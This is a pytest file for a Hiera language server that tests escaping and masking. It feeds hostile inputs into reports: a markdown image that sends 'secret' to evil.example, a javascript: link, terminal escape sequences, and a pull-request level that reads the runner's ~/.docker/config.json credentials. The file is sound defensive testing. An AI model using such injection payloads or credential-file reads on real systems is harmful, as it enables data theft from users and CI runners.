"""Keys, values, file names and errors a repository wrote, in every report and in Markdown:
they show as written and never become markup, terminal escapes or invalid XML; data read from
outside the repository never shows (docs/security.md, "Leaks").

Before: a hover embedded error messages unescaped (``![x](https://...)`` became an image the
editor fetched), a value holding two backticks closed its double-backtick code span early in
the "Across profiles" list and in ``diff --format markdown``, control characters in a key
made JUnit XML invalid and reached the terminal raw, a lone surrogate made the JSON reports
unwritable, and ``diff`` printed the keys and values of a file a pull request's level read
from outside the repository.
"""

from __future__ import annotations

import json
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest
from markdown_it import MarkdownIt

from hiera_ls.cli import main
from hiera_ls.display_text import md_cell, md_code, md_escape, md_fence, visible
from hiera_ls.features.hover import hover
from hiera_ls.project.settings import Settings
from hiera_ls.project.workspace import Workspace
from hiera_ls.report.formats import FORMATS
from hiera_ls.source.spans import Position
from tests.report.diff_fixture import Planted, copy_planted, git, write

HOSTILE = [
    "![x](https://evil.example/?s=secret)",
    "``two`` and ```three```",
    "`edge`",
    "<img src=https://evil.example/i.png>",
    "a | b",
    "[link](javascript:alert(1))",
    "- list\n# heading\n1. one\n> quote\n===",
    "*em* _em_ ~~s~~ &amp; \\*",
    "\x1b[2J\x07bell\x00nul\x9bcsi",
    "",
    " ",
]


def _html(markdown: str) -> str:
    return MarkdownIt("commonmark").enable("table").render(markdown)


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_helpers_show_text_as_written(text: str) -> None:
    escaped = _html(md_escape(text))
    assert "<img" not in escaped and "<a " not in escaped and "<em>" not in escaped
    assert "<li>" not in escaped and "<h1>" not in escaped and "<blockquote>" not in escaped
    tokens = MarkdownIt("commonmark").parseInline(md_code(text))[0].children or []
    spans = [t for t in tokens if t.type == "code_inline"]
    shown = visible(text, one_line=True)
    assert len(spans) == (1 if shown.strip() else len(spans))
    if shown.strip():
        assert spans[0].content == shown
    block = MarkdownIt("commonmark").parse(md_fence(text, "yaml"))
    assert [t.type for t in block] == ["fence"] and block[0].content == visible(text) + "\n"
    table = f"| a | b |\n| --- | --- |\n| {md_cell(text)} | x |\n"
    cells = _html(table).count("<td>")
    assert cells == 2  # a pipe inside never ends the cell


def _check_repo(root: Path) -> Path:
    (root / "data").mkdir(parents=True)
    (root / "hiera.yaml").write_text(
        "---\nversion: 5\ndefaults:\n  datadir: data\nhierarchy:\n"
        "  - name: common\n    data_hash: yaml_data\n    path: common.yaml\n"
        "  - name: json\n    data_hash: json_data\n    path: extra.json\n"
    )
    (root / "data" / "common.yaml").write_text('"k\\e[2J\\a": 1\n"k\\e[2J\\a": 2\n')
    (root / "data" / "extra.json").write_text('{"\\ud800x": 1, "\\ud800x": 2}\n')
    return root


@pytest.mark.parametrize("fmt", FORMATS)
def test_control_characters_in_keys_reach_no_report_raw(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsysbinary: pytest.CaptureFixture[bytes],
    fmt: str,
) -> None:
    root = _check_repo(tmp_path / "repo")
    monkeypatch.chdir(root)
    monkeypatch.delenv("GITHUB_ACTIONS", raising=False)
    main(["check", "--format", fmt])
    raw = capsysbinary.readouterr().out
    text = raw.decode("utf-8")  # before: a lone surrogate could not be written at all
    assert "\x1b" not in text and "\x07" not in text
    if fmt == "junit":
        ET.fromstring(raw)  # before: not well-formed (invalid token)
    elif fmt in ("json", "sarif", "gitlab"):
        json.loads(text)
    if fmt == "text":
        assert "k\\x1b[2J\\x07" in text


def test_a_hover_shows_an_error_quoting_a_value_as_text(
    tmp_path: Path,
) -> None:
    root = tmp_path / "repo"
    (root / "data").mkdir(parents=True)
    (root / "hiera.yaml").write_text(
        "---\nversion: 5\nhierarchy:\n  - name: common\n    path: common.yaml\n"
    )
    value = "![x](https://evil.example/?s=secret)"
    (root / "data" / "common.yaml").write_text(
        f"img: '{value}'\nport: \"%{{lookup('img')}}\"\nlookup_options:\n"
        "  port:\n    convert_to: Integer\n"
    )
    (root / ".hiera-ls" / "facts").mkdir(parents=True)
    (root / ".hiera-ls" / "facts" / "n1.yaml").write_text("clientcert: n1\n")
    snapshot = Workspace([str(root)], Settings(facts_profile="n1")).snapshot()
    shown = hover(snapshot, str(root / "data" / "common.yaml"), Position(1, 1))
    assert shown is not None
    assert "Puppet fails this lookup" in shown.markdown
    html = _html(shown.markdown)
    assert "<img" not in html and "evil.example" in html


def test_across_profiles_fences_a_value_holding_backticks(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    (root / "data" / "roles").mkdir(parents=True)
    (root / "hiera.yaml").write_text(
        "---\nversion: 5\nhierarchy:\n  - name: role\n    path: 'roles/%{facts.role}.yaml'\n"
        "  - name: common\n    path: common.yaml\n"
    )
    (root / "data" / "common.yaml").write_text("motd: plain\n")
    (root / "data" / "roles" / "web.yaml").write_text("motd: 'a `` b ![i](https://e.example/)'\n")
    facts = root / ".hiera-ls" / "facts"
    facts.mkdir(parents=True)
    (facts / "web.yaml").write_text("clientcert: web\nrole: web\n")
    (facts / "db.yaml").write_text("clientcert: db\nrole: db\n")
    ws = Workspace([str(root)], Settings(facts_profile="db"))
    shown = hover(ws.snapshot(), str(root / "data" / "common.yaml"), Position(0, 1))
    assert shown is not None and "Across 2 facts profiles" in shown.markdown
    tokens = MarkdownIt("commonmark").parse(shown.markdown)
    codes = [c.content for t in tokens for c in (t.children or []) if c.type == "code_inline"]
    assert '"a `` b ![i](https://e.example/)"' in codes
    assert "<img" not in _html(shown.markdown)


def test_diff_markdown_keeps_keys_and_values_in_their_cells(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    planted_template: Planted,
) -> None:
    root = tmp_path / "repo"
    copy_planted(planted_template, root)
    write(root, "data/roles/web.yaml", "---\napp::port: '`` | ![x](https://e.example/)'\n")
    monkeypatch.chdir(root)
    assert main(["diff", "--format", "markdown", "--keys", "app::port"]) == 1
    out = capsys.readouterr().out
    html = _html(out)
    assert "<img" not in html
    rows = [line for line in out.splitlines() if line.startswith("|") and "web01" in line]
    table = f"| a | b | c | d |\n| - | - | - | - |\n{rows[0]}\n"
    assert len(rows) == 1 and _html(table).count("<td>") == 4


def test_diff_masks_data_read_from_outside_the_repository(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    planted_template: Planted,
) -> None:
    """A pull request adds a level reading the runner's ~/.docker/config.json."""
    outside = tmp_path / "home" / ".docker" / "config.json"
    outside.parent.mkdir(parents=True)
    outside.write_text('{"auths": {"registry.example": {"auth": "c2VjcmV0OnRva2Vu"}}}\n')
    root = tmp_path / "repo"
    copy_planted(planted_template, root)
    hiera = (root / "hiera.yaml").read_text()
    write(
        root,
        "hiera.yaml",
        hiera.replace(
            "hierarchy:\n",
            f"hierarchy:\n  - name: creds\n    data_hash: json_data\n    path: {outside}\n",
        ),
    )
    write(
        root,
        "data/common.yaml",
        (root / "data/common.yaml").read_text() + "x: \"%{lookup('auths')}\"\n",
    )
    git(root, "add", "-A")
    monkeypatch.chdir(root)
    for fmt in ("text", "json", "markdown"):
        code = main(["diff", "--format", fmt])
        out = capsys.readouterr().out
        assert code == 1
        assert "c2VjcmV0OnRva2Vu" not in out and "registry.example" not in out, (fmt, out)
        assert "auths" in out  # the key changes, its value is not shown
        assert f"hierarchy level 'creds' reads {outside}, outside the repository" in out.replace(
            "\\", ""
        )


@pytest.mark.parametrize("fmt", FORMATS)
def test_check_shows_no_data_read_from_outside_the_repository(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], fmt: str
) -> None:
    """``check`` names the level that reads outside (hiera-reads-outside-workspace) and quotes
    none of its data, in any format."""
    outside = tmp_path / "home" / ".docker" / "config.json"
    outside.parent.mkdir(parents=True)
    outside.write_text('{"auths": {"registry.example": {"auth": "c2VjcmV0OnRva2Vu"}}}\n')
    root = tmp_path / "repo"
    (root / "data").mkdir(parents=True)
    (root / "hiera.yaml").write_text(
        "---\nversion: 5\nhierarchy:\n  - name: creds\n    data_hash: json_data\n"
        f"    path: {outside}\n  - name: common\n    path: common.yaml\n"
    )
    (root / "data" / "common.yaml").write_text("y: \"%{lookup('auths')}\"\nz: '%{lookup(\"x\")}'\n")
    (root / ".hiera-ls" / "facts").mkdir(parents=True)
    (root / ".hiera-ls" / "facts" / "n1.yaml").write_text("clientcert: n1\n")
    monkeypatch.chdir(root)
    monkeypatch.delenv("GITHUB_ACTIONS", raising=False)
    main(["check", "--format", fmt, "--fail-on", "info"])
    out = capsys.readouterr().out
    assert "c2VjcmV0OnRva2Vu" not in out and "registry.example" not in out
    assert "hiera-reads-outside-workspace" in out
